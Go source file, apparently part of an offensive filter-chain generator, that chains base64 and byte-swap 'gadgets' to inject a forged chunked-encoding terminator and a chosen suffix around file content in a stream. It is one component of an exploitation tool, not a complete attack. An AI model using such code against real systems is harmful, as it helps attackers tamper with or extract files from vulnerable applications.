package chain

// add3Swap injects a 3-byte triplet as a single 4-byte UCS-4LE code unit
// prepended to the stream: base64-encode the triplet, push its four base64
// characters back-to-front, base64-decode, then byte-swap 4-byte units
// (§4.7's add3_swap gadget).
func add3Swap(p *Pipeline, triplet []byte) error {
	if len(triplet) != 3 {
		return argumentError("add3Swap requires a 3-byte triplet, got %d bytes", len(triplet))
	}
	b64 := b64Encode(triplet, false)
	p.Append(b64EncodeTok)
	for i := 3; i >= 0; i-- {
		if err := p.PushChar(b64[i]); err != nil {
			return err
		}
	}
	p.Append(b64Decode)
	p.Append(swap4)
	return nil
}

// setLSBs sets the two least-significant bits of the chunk's third byte so
// the character that follows it in memory is rejected as non-base64 by a
// subsequent double-decode, cleanly cutting the boundary (§4.7, §9).
//
// addSuffix only passes the 3-character encoding of a 2-byte pair, whose
// third character carries 4 data bits and two zero bits, so its index is a
// multiple of 4 (at most 60) and the index-plus-3 shift stays within the
// 64-character alphabet. The modulo 64 is a guard for other inputs (§9's
// option (b)). See DESIGN.md "Open Question decisions".
func setLSBs(chunk []byte) []byte {
	idx := indexOf(b64Alphabet, chunk[2])
	shifted := b64Alphabet[(idx+3)%len(b64Alphabet)]
	out := make([]byte, 3)
	copy(out, chunk[:2])
	out[2] = shifted
	return out
}

func indexOf(alphabet string, c byte) int {
	for i := 0; i < len(alphabet); i++ {
		if alphabet[i] == c {
			return i
		}
	}
	return 0
}

// addSuffix appends the forged chunked-encoding terminator "\n0\n", then the
// suffix itself (base64-encoded, LSB-tweaked 2-byte-at-a-time, alternately
// byte-reversed) so that dechunk (postlude.go) later exposes it as the
// trailer following the file content's chunk body (§4.7).
func addSuffix(p *Pipeline, suffix []byte) error {
	if err := add3Swap(p, []byte("\n0\n")); err != nil {
		return err
	}

	suffixB64 := b64Encode(suffix, false)

	// Left-to-right 2-byte sub-chunks; the final one is 1 byte if the
	// length is odd (§4.7 step 2).
	var pairs [][]byte
	for i := 0; i < len(suffixB64); i += 2 {
		end := i + 2
		if end > len(suffixB64) {
			end = len(suffixB64)
		}
		pairs = append(pairs, suffixB64[i:end])
	}

	reverse := false
	for i := len(pairs) - 1; i >= 0; i-- {
		chunk := b64Encode(pairs[i], true)
		chunk = setLSBs(chunk)
		if reverse {
			chunk = reverseBytes(chunk)
		}
		if err := add3Swap(p, chunk); err != nil {
			return err
		}
		reverse = !reverse
	}

	return nil
}

func reverseBytes(b []byte) []byte {
	out := make([]byte, len(b))
	for i, v := range b {
		out[len(b)-1-i] = v
	}
	return out
}

// padSuffixTriplet is not random: it was chosen because its base64
// representation is short, minimising payload size (§4.8).
var padSuffixTriplet = []byte{0x08, 0x29, 0x02}

// padSuffix moves the suffix "up" the stream by (nbChunks*4+2)*3 bytes so
// the file content lands beneath it once dechunk runs (§4.8).
func padSuffix(p *Pipeline, nbChunks int) error {
	count := nbChunks*4 + 2
	for i := 0; i < count; i++ {
		if err := add3Swap(p, padSuffixTriplet); err != nil {
			return err
		}
	}
	return nil
}
